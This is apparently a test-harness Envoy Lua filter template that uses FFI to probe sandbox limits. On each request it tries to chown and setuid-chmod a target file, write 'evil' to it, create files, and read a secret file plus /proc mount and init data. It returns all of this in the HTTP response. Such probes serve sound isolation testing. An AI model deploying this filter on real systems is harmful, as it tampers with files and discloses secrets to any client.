function envoy_on_request(handle)
  local ffi = require("ffi")
  pcall(ffi.cdef, [[
    int chmod(const char *path, unsigned int mode);
    int chown(const char *path, unsigned int owner, unsigned int group);
    int setxattr(const char *path, const char *name, const void *value, size_t size, int flags);
    int utimes(const char *path, const long *times);
    long readlink(const char *path, char *buf, size_t size);
    char *strerror(int errnum);
    int getpid(void);
  ]])
  local C = ffi.C
  local out = {}
  local function add(line) out[#out + 1] = line end
  local function result(what, rc)
    if rc == 0 then
      add(what .. ": ok")
    else
      local e = ffi.errno()
      add(what .. ": failed: " .. ffi.string(C.strerror(e)) .. " (errno " .. e .. ")")
    end
  end
  local function copy(title, path)
    local f, err = io.open(path, "rb")
    if not f then
      add(title .. " " .. path .. ": failed: " .. tostring(err))
      return
    end
    local text = f:read("*a") or ""
    f:close()
    add("--- " .. title .. " " .. path)
    add((text:gsub("%z", " ")))
    add("--- end " .. title)
  end
  local exe = ffi.new("char[4096]")
  local n = tonumber(C.readlink("/proc/self/exe", exe, 4095))
  add("BEGIN lever=d pid=" .. C.getpid() .. " exe=" .. (n > 0 and ffi.string(exe, n) or "?"))
  local target = "@TARGET@"
  result("chown 65534 " .. target, C.chown(target, 65534, 65534))
  result("chmod 06777 " .. target, C.chmod(target, 3583))
  result("setxattr user.x " .. target, C.setxattr(target, "user.x", "evil", 4, 0))
  result("utimes 0 " .. target, C.utimes(target, ffi.new("long[4]")))
  local w, werr = io.open(target, "a")
  if w then
    w:write("evil\n")
    w:close()
    add("write " .. target .. ": ok")
  else
    add("write " .. target .. ": failed: " .. tostring(werr))
  end
  local created = "@CREATE_PREFIX@d"
  local c, cerr = io.open(created, "w")
  if c then
    c:write("created\n")
    c:close()
    add("create " .. created .. ": ok")
  else
    add("create " .. created .. ": failed: " .. tostring(cerr))
  end
  copy("secret", "@SECRET@")
  copy("mountinfo", "/proc/self/mountinfo")
  copy("cmdline", "/proc/1/cmdline")
  add("END lever=d")
  local report = table.concat(out, "\n") .. "\n"
  local r = io.open("@REPORT_PREFIX@d.txt", "a")
  if r then
    r:write(report)
    r:close()
  end
  handle:respond({[":status"] = "200"}, report)
end
